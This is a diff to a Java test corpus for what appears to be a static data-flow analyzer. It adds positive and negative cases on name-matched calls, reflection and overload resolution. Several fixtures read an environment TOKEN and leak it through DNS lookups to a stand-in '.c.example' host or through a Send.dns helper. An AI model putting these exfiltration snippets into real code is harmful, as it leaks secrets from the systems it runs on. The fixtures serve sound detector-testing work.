@@ -76,6 +76,15 @@ final class FlowCorpus {
         return out;
     }
 
+    /** {@code count} unrelated classes {@code prefix1..prefixN}, each with {@code body}, except the {@code special} ones. */
+    private static List<String> sameNamed(String prefix, int count, String body, Map<Integer, String> special) {
+        List<String> out = new ArrayList<>();
+        for (int i = 1; i <= count; i++) {
+            out.add("package PKG;\nclass " + prefix + i + " {\n" + special.getOrDefault(i, body) + "}\n");
+        }
+        return out;
+    }
+
     private static String[] files(List<String> generated, String... written) {
         List<String> all = new ArrayList<>(List.of(written));
         all.addAll(generated);
@@ -653,6 +662,44 @@ final class FlowCorpus {
                             }
                         }
                         """));
+        // a receiver of unknown type once reached same-named methods only when there were at most 8, else none
+        add("receiver of unknown type (var): the 12th of 12 same-named methods sends its argument",
+                "name-matched call: many same-named methods",
+                files(sameNamed("Hd", 12, """
+                            public void handle(String data) {
+                                System.out.println(data.length());
+                            }
+                        """, Map.of(12, """
+                            public void handle(String data) throws Exception {
+                                java.net.InetAddress.getByName(data + ".c.example"); // expect: EXFIL, from=A.java:5
+                            }
+                        """)), """
+                        package PKG;
+                        class A {
+                            void f(java.util.function.Supplier<?> registry) throws Exception {
+                                var h = registry.get();
+                                h.handle(System.getenv("TOKEN"));
+                            }
+                        }
+                        """));
+        add("reflection on a class not known: the 12th of 12 same-named methods sends its argument",
+                "name-matched call: many same-named methods",
+                files(sameNamed("Rf", 12, """
+                            public static void x(String data) {
+                                System.out.println(data.length());
+                            }
+                        """, Map.of(12, """
+                            public static void x(String data) throws Exception {
+                                java.net.InetAddress.getByName(data); // expect: EXFIL, from=A.java:4
+                            }
+                        """)), """
+                        package PKG;
+                        class A {
+                            void f(String cls) throws Exception {
+                                Class.forName(cls).getMethod("x", String.class).invoke(null, System.getenv("TOKEN"));
+                            }
+                        }
+                        """));
         add("dispatch to several implementations: result", "interface dispatch", """
                 package PKG;
                 interface Store {
@@ -1192,6 +1239,40 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        viaSend("overloads: the overload the argument types choose is reached", "overload resolution by argument types", true, """
+                package PKG;
+                class A {
+                    void put(Ident who, String value) {
+                    }
+                    void put(String name, String value) throws Exception {
+                        Send.dns(value);
+                    }
+                    void f() {
+                        put("user", System.getenv("TOKEN"));
+                    }
+                }
+                """, """
+                package PKG;
+                class Ident {
+                }
+                """);
+        viaSend("overloads: an argument of a type variable keeps every overload", "overload resolution by argument types", true, """
+                package PKG;
+                class A {
+                    void put(Ident who, String value) throws Exception {
+                        Send.dns(value);
+                    }
+                    void put(String name, String value) {
+                    }
+                    <T extends Ident> void f(T who) {
+                        put(who, System.getenv("TOKEN"));
+                    }
+                }
+                """, """
+                package PKG;
+                class Ident {
+                }
+                """);
     }
 
     private void negatives() {
@@ -1244,6 +1325,47 @@ final class FlowCorpus {
                             }
                             void all(Op o) throws Exception {
                                 o.run("clean");
+                            }
+                        }
+                        """));
+        add("receiver of unknown type: 12 same-named methods get clean data, the secret one of another arity",
+                "negative: name-matched call (arity)",
+                files(sameNamed("Hn", 12, """
+                            public void handle(String data) throws Exception {
+                                java.net.InetAddress.getByName(data);
+                            }
+                        """, Map.of(12, """
+                            public void handle(String data) throws Exception {
+                                java.net.InetAddress.getByName(data);
+                            }
+                            public void handle(String data, String secret) {
+                                System.out.println(secret.length());
+                            }
+                        """)), """
+                        package PKG;
+                        class A {
+                            void f(java.util.function.Supplier<?> registry) throws Exception {
+                                var h = registry.get();
+                                h.handle("public.example");
+                                h.handle("public.example", System.getenv("TOKEN"));
+                            }
+                        }
+                        """));
+        add("a call on X.class is a Class's, never a name match: 12 project getName methods, one returns a secret",
+                "negative: name-matched call (class literal)",
+                files(sameNamed("Nm", 12, """
+                            public String getName() {
+                                return "n";
+                            }
+                        """, Map.of(12, """
+                            public String getName() {
+                                return System.getenv("TOKEN");
+                            }
+                        """)), """
+                        package PKG;
+                        class A {
+                            void f() throws Exception {
+                                java.net.InetAddress.getByName(A.class.getName() + ".c.example");
                             }
                         }
                         """));
@@ -1819,6 +1941,70 @@ final class FlowCorpus {
                             Send.dns(e.getMessage());
                         }
                     }
+                }
+                """);
+        viaSend("overloads: a String argument does not run the overload taking a project type", "negative: overload resolution by argument types", false, """
+                package PKG;
+                class A {
+                    static String secret;
+                    void put(String name, String value) {
+                        secret = value;
+                    }
+                    void put(Ident who, String value) throws Exception {
+                        Send.dns(value);
+                    }
+                    void f() {
+                        put("user", System.getenv("TOKEN"));
+                    }
+                }
+                """, """
+                package PKG;
+                class Ident {
+                }
+                """);
+        viaSend("overloads: this(...) with a primitive runs the constructor taking a primitive", "negative: overload resolution by argument types", false, """
+                package PKG;
+                class A {
+                    A(int port, String host) {
+                    }
+                    A(Ident who, String host) throws Exception {
+                        Send.dns(host);
+                    }
+                    A(String host) {
+                        this(443, host);
+                    }
+                    static A make() {
+                        return new A(System.getenv("HOST"));
+                    }
+                }
+                """, """
+                package PKG;
+                class Ident {
+                }
+                """);
+        viaSend("overloads: a subtype argument does not run the overload of an unrelated project type", "negative: overload resolution by argument types", false, """
+                package PKG;
+                class A {
+                    void send(Left l, String v) {
+                    }
+                    void send(Right r, String v) throws Exception {
+                        Send.dns(v);
+                    }
+                    void f(LeftChild c) {
+                        send(c, System.getenv("TOKEN"));
+                    }
+                }
+                """, """
+                package PKG;
+                class Left {
+                }
+                """, """
+                package PKG;
+                class LeftChild extends Left {
+                }
+                """, """
+                package PKG;
+                class Right {
                 }
                 """);
     }
